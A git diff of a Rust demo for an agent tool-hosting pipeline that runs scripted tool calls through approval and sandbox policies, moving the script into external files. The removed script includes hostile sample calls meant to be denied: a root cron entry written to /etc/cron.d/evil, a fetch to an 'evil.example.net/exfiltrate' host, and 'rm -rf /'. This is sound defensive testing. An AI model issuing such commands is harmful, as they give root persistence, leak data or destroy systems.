@@ -1,11 +1,13 @@
 //! A scripted agent session through the whole toolhost pipeline:
 //! read → edit (approved) → grep → a write outside the workspace (denied)
-//! → a fetch to a host not on the allow-list (denied) — printed the way a
-//! user would want to see it.
+//! → a fetch to a host not on the allow-list (denied) → an unknown tool →
+//! arguments that are not JSON — printed the way a user would want to see
+//! it. The workspace and the script are in `examples/demo/`.
 //!
 //! Run with `make demo` (or `cargo run -p toolhost --example demo`).
 
 use std::sync::Arc;
+use toolhost::script::{copy_workspace, read_script};
 use toolhost::{Host, HostConfig, find_toolbox};
 use toolhost_contract::{ToolCall, ToolResult};
 use toolhost_pipeline::{Approval, ApprovalRequest, Approver, SessionLog, read_log};
@@ -22,8 +24,10 @@ impl Approver for ShowAndApprove {
     }
 }
 
-fn show(result: &ToolResult) {
-    let ms = result.meta().timings.total_us as f64 / 1000.0;
+/// Prints a result; `took` is real time (the session's own timings are
+/// virtual, since it runs deterministically).
+fn show(result: &ToolResult, took: std::time::Duration) {
+    let ms = took.as_secs_f64() * 1000.0;
     match result.error() {
         None => println!("  ✓ ok in {ms:.1} ms"),
         Some(e) => {
@@ -42,47 +46,22 @@ fn show(result: &ToolResult) {
     println!();
 }
 
+/// The demo's files: the workspace it starts from and its script.
+fn demo_dir() -> std::path::PathBuf {
+    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/demo")
+}
+
 #[tokio::main]
 async fn main() -> anyhow::Result<()> {
+    // The workspace: a small project, and its toolbox (the built-in tools
+    // with their default policies, and fetch allowed to reach one host: it
+    // is not served without a network allow-list). The session runs
+    // deterministically (seed 0), as recorded in
+    // tests/cassettes/demo.cassette.jsonl.
     let workspace = tempfile::tempdir()?;
     let ws = workspace.path();
-    std::fs::create_dir_all(ws.join("src"))?;
-    std::fs::write(
-        ws.join("src/greet.rs"),
-        "/// Greets someone.\npub fn greet(name: &str) -> String {\n    format!(\"Hello, {name}!\")\n}\n\npub fn shout(name: &str) -> String {\n    greet(name).to_uppercase()\n}\n",
-    )?;
-    std::fs::write(
-        ws.join("README.md"),
-        "# demo project\n\nCall `greet` to greet.\n",
-    )?;
-
-    // The toolbox: the built-in tools with their default policies, and
-    // fetch allowed to reach one host (it is not served without a network
-    // allow-list).
-    std::fs::write(
-        ws.join("toolhost.toml"),
-        r#"version = 1
-
-[[component]]
-source = "builtin:read"
-
-[[component]]
-source = "builtin:edit"
-
-[[component]]
-source = "builtin:grep"
-
-[[component]]
-source = "builtin:write"
-
-[[component]]
-source = "builtin:fetch"
-[component.policy]
-decision = "ask"
-[component.policy.network]
-allow = ["example.com:443"]
-"#,
-    )?;
+    copy_workspace(&demo_dir().join("workspace"), ws)?;
+    let script = read_script(&demo_dir().join("calls.jsonl"))?;
     let host = Host::new(HostConfig {
         cache_dir: Some(std::env::temp_dir().join("toolhost-demo-cache")),
         ..HostConfig::default()
@@ -107,53 +86,28 @@ allow = ["example.com:443"]
     let log_path = logs.path().join("session.jsonl");
     let pipeline = host
         .session()
+        .deterministic(0)
         .approver(Arc::new(ShowAndApprove))
         .session_log(Arc::new(SessionLog::open(&log_path)?))
         .build();
 
     println!("\nworkspace {} is mounted at /workspace\n", ws.display());
-    let script: &[(&str, &str, &str)] = &[
-        ("read the file", "read", r#"{"path": "src/greet.rs"}"#),
-        (
-            "edit it (policy says ask)",
-            "edit",
-            r#"{"path": "src/greet.rs", "old_text": "format!(\"Hello, {name}!\")", "new_text": "format!(\"Hello, {name}! Welcome.\")"}"#,
-        ),
-        (
-            "search the workspace",
-            "grep",
-            r#"{"pattern": "greet", "path": "/workspace", "context": 0}"#,
-        ),
-        (
-            "write outside the workspace",
-            "write",
-            r#"{"path": "/etc/cron.d/evil", "content": "* * * * * root sh"}"#,
-        ),
-        (
-            "overwrite a file never read",
-            "write",
-            r#"{"path": "README.md", "content": "gone"}"#,
-        ),
-        (
-            "fetch a host not on the allow-list",
-            "fetch",
-            r#"{"url": "https://evil.example.net/exfiltrate"}"#,
-        ),
-        (
-            "call a tool that does not exist",
-            "shell",
-            r#"{"cmd": "rm -rf /"}"#,
-        ),
-    ];
-    for (i, (what, tool, args)) in script.iter().enumerate() {
-        println!("{}. {what}\n  → {tool} {args}", i + 1);
+    for (i, call) in script.iter().enumerate() {
+        let args = call.arguments_text();
+        println!(
+            "{}. {}\n  → {} {args}",
+            i + 1,
+            call.note.as_deref().unwrap_or(""),
+            call.tool
+        );
+        let started = std::time::Instant::now();
         let r = pipeline
             .execute(
-                ToolCall::new(format!("call_{}", i + 1), *tool, *args),
+                ToolCall::new(format!("call_{}", i + 1), call.tool.clone(), args),
                 Default::default(),
             )
             .await;
-        show(&r);
+        show(&r, started.elapsed());
     }
     let log = read_log(&log_path)?;
     println!(
